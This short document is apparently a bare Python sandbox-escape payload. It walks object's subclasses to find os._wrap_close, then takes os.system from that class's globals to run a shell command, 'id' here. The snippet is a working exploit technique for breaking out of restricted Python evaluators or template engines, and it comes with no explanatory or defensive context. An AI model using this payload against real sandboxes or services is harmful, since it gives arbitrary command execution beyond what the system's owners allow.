for c in ().__class__.__bases__[0].__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
